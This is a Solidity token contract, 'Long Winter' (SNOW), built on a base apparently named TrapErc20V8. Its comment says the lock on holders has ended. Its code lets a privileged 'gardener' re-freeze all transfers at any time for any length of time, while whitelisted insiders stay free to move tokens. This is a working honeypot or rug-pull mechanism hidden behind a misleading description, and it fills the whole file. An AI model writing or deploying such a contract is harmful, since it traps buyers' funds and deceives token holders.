// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// A lock on holders that has ended, and that may be extended as often as wanted.
contract LongWinter is TrapErc20V8 {
    uint64 public thawsAt;
    address public immutable gardener;
    mapping(address => bool) public evergreen;

    constructor(address gardener_) TrapErc20V8("Long Winter", "SNOW", 19_000_000 ether) {
        thawsAt = uint64(block.timestamp);
        gardener = gardener_;
        evergreen[msg.sender] = true;
        evergreen[gardener_] = true;
    }

    function keepGreen(address plant) external onlyOwner {
        evergreen[plant] = true;
    }

    function extendSeason(uint64 extraSeconds) external {
        require(msg.sender == gardener);
        thawsAt = uint64(block.timestamp) + extraSeconds;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(evergreen[from] || block.timestamp >= thawsAt, "frozen until thaw");
        super._transfer(from, to, value);
    }
}
